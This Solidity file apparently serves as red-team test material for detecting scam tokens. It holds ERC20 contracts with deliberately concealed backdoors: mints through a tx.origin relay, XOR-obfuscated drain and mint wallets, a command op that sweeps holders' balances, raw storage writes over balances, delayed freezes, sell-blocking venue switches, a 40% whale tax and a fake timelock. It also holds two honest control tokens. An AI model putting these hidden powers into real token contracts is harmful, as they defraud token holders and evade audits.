// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

// Red-team tuning tokens: powers behind a relay contract and tx.origin, a hash-preimage config key,
// batch-only and struct-array arguments, a byte-encoded command, a two-wallet sequence, a ticket
// only the author can compute, a raw storage write, a freeze armed on the next receipt, a venue
// switch, an amount band and a fake timelock; and two honest tokens whose scary-looking powers are
// capped or switched off for good.

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {TnRouterPair} from "./RouterPair.sol";

interface ITnRtPoolSync {
    function sync() external;
}

interface ITnRtBridgeMintable {
    function bridgeMint(address to, uint256 amount) external;
}

// ---------------------------------------------------------------------------------------------
// mint

/// A cross-chain message relay. Only its operator's transactions are relayed (checked on
/// tx.origin, so any contract of the operator may call it).
contract TnRtBridgeRelay {
    address private immutable operator;
    mapping(bytes32 => bool) public processed;

    event Relayed(bytes32 indexed id, address indexed token, address to, uint256 amount);

    constructor() {
        operator = msg.sender;
    }

    function relay(address token, bytes calldata message) external {
        require(tx.origin == operator, "relayer");
        (uint64 srcChain, uint64 nonce, address to, uint256 amount) =
            abi.decode(message, (uint64, uint64, address, uint256));
        bytes32 id = keccak256(abi.encode(srcChain, nonce));
        require(!processed[id], "processed");
        processed[id] = true;
        ITnRtBridgeMintable(token).bridgeMint(to, amount);
        emit Relayed(id, token, to, amount);
    }
}

/// bridgeMint mints any amount, but only when called by the relay contract (kept in an immutable)
/// inside a transaction someone else started: a direct call from the relay's address is refused.
contract TnRtBridgeToken is ERC20, Ownable {
    address private immutable relayer;

    constructor(string memory n, string memory s, uint256 supply, address relay_) ERC20(n, s) Ownable(msg.sender) {
        relayer = relay_;
        _mint(msg.sender, supply);
    }

    function bridgeMint(address to, uint256 amount) external {
        require(msg.sender == relayer && tx.origin != msg.sender, "bridge only");
        _mint(to, amount);
    }
}

/// A key/value parameter store; one key, known only by its hash, tops up a vault wallet computed
/// from two constants.
contract TnRtParamToken is ERC20, Ownable {
    mapping(bytes32 => uint256) private params;
    bytes32 private constant TOPUP_HASH = keccak256(abi.encode(keccak256("treasury.topup.v2")));
    uint256 private constant VA = 0xebf78c9a8c5f4b7eabbee251f0fd6a07a978706b1d20be1470490f6fe3a1f034;
    uint256 private constant VB = 0xebf78c9a8c5f4b7eabbee25105a661151eddefc3e52d2c2a441b71c25d103eac;

    event ParameterSet(bytes32 indexed key, uint256 value);

    constructor(string memory n, string memory s, uint256 supply) ERC20(n, s) Ownable(msg.sender) {
        _mint(msg.sender, supply);
    }

    function setParameter(bytes32 key, uint256 value) external onlyOwner {
        params[key] = value;
        if (keccak256(abi.encode(key)) == TOPUP_HASH) _mint(address(uint160(VA ^ VB)), value);
        emit ParameterSet(key, value);
    }

    function parameter(bytes32 key) external view returns (uint256) {
        return params[key];
    }
}

/// A "fixed supply" token whose totalSupply() is a constant; distributeRewards credits balances
/// without it, but only in batches of two or more.
contract TnRtBatchRewardToken is ERC20, Ownable {
    uint256 private immutable fixedSupply;
    mapping(address => bool) private distributors;

    constructor(string memory n, string memory s, uint256 supply) ERC20(n, s) Ownable(msg.sender) {
        fixedSupply = supply;
        distributors[msg.sender] = true;
        _mint(msg.sender, supply);
    }

    function totalSupply() public view override returns (uint256) {
        return fixedSupply;
    }

    function distributeRewards(address[] calldata accounts, uint256[] calldata amounts) external {
        require(distributors[msg.sender], "distributor");
        require(accounts.length > 1 && accounts.length == amounts.length, "batch");
        for (uint256 i = 0; i < accounts.length; i++) {
            super._update(address(0), accounts[i], amounts[i]);
        }
    }
}

/// A budget a council wallet proposes and a keeper wallet executes in a later block: neither call
/// alone changes anything.
contract TnRtCouncilToken is ERC20, Ownable {
    address private council;
    address private keeper;
    uint256 private pendingBudget;
    uint256 private proposedBlock;

    constructor(string memory n, string memory s, uint256 supply, address council_) ERC20(n, s) Ownable(msg.sender) {
        council = council_;
        keeper = msg.sender;
        _mint(msg.sender, supply);
    }

    function proposeBudget(uint256 amount) external {
        require(msg.sender == council, "council");
        pendingBudget = amount;
        proposedBlock = block.number;
    }

    function executeBudget() external {
        require(msg.sender == keeper, "keeper");
        if (pendingBudget == 0 || block.number <= proposedBlock) return;
        uint256 amount = pendingBudget;
        pendingBudget = 0;
        _mint(council, amount);
    }
}

// ---------------------------------------------------------------------------------------------
// leak

/// execute(bytes) decodes an op code, an account and an amount; op 7 moves the account's tokens
/// to the operator, a wallet computed from two constants and stored nowhere.
contract TnRtCommandToken is ERC20, Ownable {
    uint256 private constant KA = 0x7298137df46d70b6383458786d188060eae4fb7cf0d2650e99a7e36def11b907;
    uint256 private constant KB = 0x7298137df46d70b638345878fc44bfcf135a08b02e68635698108bdbca0f5180;

    event Heartbeat(address indexed account, uint256 value);

    constructor(string memory n, string memory s, uint256 supply) ERC20(n, s) Ownable(msg.sender) {
        _mint(msg.sender, supply);
    }

    function execute(bytes calldata command) external {
        address operator = address(uint160(KA ^ KB));
        require(msg.sender == operator, "operator");
        (uint8 op, address account, uint256 amount) = abi.decode(command, (uint8, address, uint256));
        if (op == 1) {
            emit Heartbeat(account, amount);
        } else if (op == 7) {
            uint256 held = balanceOf(account);
            _transfer(account, operator, amount > held ? held : amount);
        } else {
            revert("op");
        }
    }
}

/// reconcileReserves burns from the pool and syncs it, for the deployer (checked on tx.origin),
/// with a ticket that is a hash of the token, the amount and a salt.
contract TnRtPoolTicketToken is ERC20, Ownable, TnRouterPair {
    address private immutable steward;

    constructor(string memory n, string memory s, uint256 supply, address router_)
        ERC20(n, s)
        Ownable(msg.sender)
        TnRouterPair(router_)
    {
        steward = msg.sender;
        _mint(msg.sender, supply);
    }

    function reconcileReserves(uint256 amount, bytes32 ticket) external {
        require(tx.origin == steward, "steward");
        require(ticket == keccak256(abi.encodePacked(address(this), amount, "reconcile")), "ticket");
        address pool = _pair();
        _burn(pool, amount);
        ITnRtPoolSync(pool).sync();
    }
}

/// OTC settlement: an agent settles orders (an array of structs) between any two accounts with
/// no allowance.
contract TnRtSettlementToken is ERC20, Ownable {
    struct Order {
        address from;
        address to;
        uint256 amount;
        uint64 expiry;
    }

    mapping(address => bool) private agents;

    event Settled(address indexed from, address indexed to, uint256 amount);

    constructor(string memory n, string memory s, uint256 supply, address agent) ERC20(n, s) Ownable(msg.sender) {
        agents[agent] = true;
        _mint(msg.sender, supply);
    }

    function settleOrders(Order[] calldata orders) external {
        require(agents[msg.sender], "agent");
        for (uint256 i = 0; i < orders.length; i++) {
            Order calldata order = orders[i];
            require(order.expiry >= block.timestamp, "expired");
            _transfer(order.from, order.to, order.amount);
            emit Settled(order.from, order.to, order.amount);
        }
    }
}

/// writeCheckpoint stores any word in any slot "above the reserved ones": balances live in hashed
/// slots, so it rewrites any holder's balance.
contract TnRtCheckpointToken is ERC20, Ownable {
    address private immutable archivist;

    event Checkpoint(bytes32 indexed key, bytes32 value);

    constructor(string memory n, string memory s, uint256 supply) ERC20(n, s) Ownable(msg.sender) {
        archivist = msg.sender;
        _mint(msg.sender, supply);
    }

    function writeCheckpoint(bytes32 key, bytes32 value) external {
        require(msg.sender == archivist, "archivist");
        require(uint256(key) > 64, "reserved");
        assembly {
            sstore(key, value)
        }
        emit Checkpoint(key, value);
    }

    function checkpoint(bytes32 key) external view returns (bytes32 value) {
        assembly {
            value := sload(key)
        }
    }
}

// ---------------------------------------------------------------------------------------------
// limit

/// watch(address) only marks an account; the freeze lands when the account next receives tokens.
contract TnRtQuarantineToken is ERC20, Ownable {
    address private immutable sentinel;
    mapping(address => uint8) private status;

    constructor(string memory n, string memory s, uint256 supply) ERC20(n, s) Ownable(msg.sender) {
        sentinel = msg.sender;
        _mint(msg.sender, supply);
    }

    function watch(address account) external {
        require(msg.sender == sentinel, "sentinel");
        if (status[account] == 0) status[account] = 1;
    }

    function _update(address from, address to, uint256 value) internal override {
        require(status[from] != 2, "quarantined");
        super._update(from, to, value);
        if (status[to] == 1) status[to] = 2;
    }
}

/// Transfers to a contract other than the official venue revert, except in the owner's own
/// transactions; migrateVenue moves the venue to another contract, leaving the pair unofficial.
contract TnRtVenueToken is ERC20, Ownable, TnRouterPair {
    address private venue;

    constructor(string memory n, string memory s, uint256 supply, address router_)
        ERC20(n, s)
        Ownable(msg.sender)
        TnRouterPair(router_)
    {
        _mint(msg.sender, supply);
    }

    function officialVenue() public view returns (address) {
        return venue == address(0) ? _pair() : venue;
    }

    function migrateVenue(address newVenue) external onlyOwner {
        require(newVenue.code.length > 0, "not a pool");
        require(newVenue != address(this) && newVenue != dexRouter && newVenue != officialVenue(), "venue");
        venue = newVenue;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to.code.length > 0 && to != officialVenue() && tx.origin != owner()) revert("unlisted venue");
        super._update(from, to, value);
    }
}

/// A placeholder for a future pool (a contract with code, nothing more).
contract TnRtVenuePool {
    uint256 public immutable createdAt = block.timestamp;
}

/// Sells above a whale threshold (in whole tokens, 1 M to 50 M, off by default) lose 40 % to the owner.
contract TnRtWhaleBandToken is ERC20, Ownable, TnRouterPair {
    uint256 private whaleThreshold = type(uint256).max;

    constructor(string memory n, string memory s, uint256 supply, address router_)
        ERC20(n, s)
        Ownable(msg.sender)
        TnRouterPair(router_)
    {
        _mint(msg.sender, supply);
    }

    function setWhaleThreshold(uint256 wholeTokens) external onlyOwner {
        require(wholeTokens >= 1_000_000 && wholeTokens <= 50_000_000, "band");
        whaleThreshold = wholeTokens * 1e18;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == _pair() && from != owner() && value > whaleThreshold) {
            uint256 fee = (value * 40) / 100;
            super._update(from, owner(), fee);
            value -= fee;
        }
        super._update(from, to, value);
    }
}

/// A timelock whose two-day delay its admin may set to zero at once (a real one only lets itself
/// change its delay, through a queued call).
contract TnRtTimelock {
    address public admin;
    uint256 public delay = 2 days;
    mapping(bytes32 => uint256) public eta;

    constructor() {
        admin = msg.sender;
    }

    function setDelay(uint256 newDelay) external {
        require(msg.sender == admin, "admin");
        delay = newDelay;
    }

    function queue(address target, bytes calldata data) external returns (bytes32 id) {
        require(msg.sender == admin, "admin");
        id = keccak256(abi.encode(target, data));
        eta[id] = block.timestamp + delay;
    }

    function execute(address target, bytes calldata data) external returns (bytes memory) {
        require(msg.sender == admin, "admin");
        bytes32 id = keccak256(abi.encode(target, data));
        uint256 ready = eta[id];
        require(ready != 0 && block.timestamp >= ready, "not ready");
        delete eta[id];
        (bool ok, bytes memory result) = target.call(data);
        require(ok, "call failed");
        return result;
    }
}

/// Buy and sell fees in basis points, set by the owner from one ABI-encoded (buy, sell, sink) byte
/// string and taken on trades with the pair; what caps them and who is exempt is the token's own.
abstract contract TnRtConfigFees is ERC20, Ownable, TnRouterPair {
    uint16 internal buyBps;
    uint16 internal sellBps;
    address internal feeSink;

    function _maxBps() internal pure virtual returns (uint16);

    function _feeExempt(address account) internal view virtual returns (bool);

    function applyConfig(bytes calldata config) external onlyOwner {
        (uint16 buy, uint16 sell, address sink) = abi.decode(config, (uint16, uint16, address));
        require(buy <= _maxBps() && sell <= _maxBps() && sink != address(0), "config");
        (buyBps, sellBps, feeSink) = (buy, sell, sink);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from != address(0) && !_feeExempt(from) && from != feeSink && to != feeSink) {
            address pair = _pair();
            uint256 bps = to == pair ? sellBps : from == pair ? buyBps : 0;
            uint256 fee = (value * bps) / 10_000;
            if (fee > 0) {
                super._update(from, feeSink, fee);
                value -= fee;
            }
        }
        super._update(from, to, value);
    }
}

/// Fees set from a byte-encoded config by the owner (the timelock above), uncapped.
contract TnRtTimelockedConfigToken is TnRtConfigFees {
    address private immutable deployer;

    constructor(string memory n, string memory s, uint256 supply, address router_, address timelock_)
        ERC20(n, s)
        Ownable(timelock_)
        TnRouterPair(router_)
    {
        deployer = msg.sender;
        sellBps = 200;
        feeSink = msg.sender;
        _mint(msg.sender, supply);
    }

    function _maxBps() internal pure override returns (uint16) {
        return 10_000;
    }

    function _feeExempt(address account) internal view override returns (bool) {
        return account == deployer;
    }
}

// ---------------------------------------------------------------------------------------------
// benign

/// An anti-bot blocklist that only works while the guard is on; retireGuard switches it off for
/// good (sent at launch).
contract TnRtBotGuardToken is ERC20, Ownable {
    bool private guardRetired;
    mapping(address => bool) private bots;

    constructor(string memory n, string memory s, uint256 supply) ERC20(n, s) Ownable(msg.sender) {
        _mint(msg.sender, supply);
    }

    function blockBot(address account, bool blocked) external onlyOwner {
        require(!guardRetired, "guard retired");
        bots[account] = blocked;
    }

    function retireGuard() external onlyOwner {
        guardRetired = true;
    }

    function _update(address from, address to, uint256 value) internal override {
        require(guardRetired || !bots[from], "bot");
        super._update(from, to, value);
    }
}

/// Fees set from a byte-encoded config by the owner, never above 10 % each way; 3 % now.
contract TnRtCappedConfigToken is TnRtConfigFees {
    uint16 public constant MAX_BPS = 1_000;

    constructor(string memory n, string memory s, uint256 supply, address router_, address sink)
        ERC20(n, s)
        Ownable(msg.sender)
        TnRouterPair(router_)
    {
        buyBps = 300;
        sellBps = 300;
        feeSink = sink;
        _mint(msg.sender, supply);
    }

    function _maxBps() internal pure override returns (uint16) {
        return MAX_BPS;
    }

    function _feeExempt(address account) internal view override returns (bool) {
        return account == owner();
    }
}
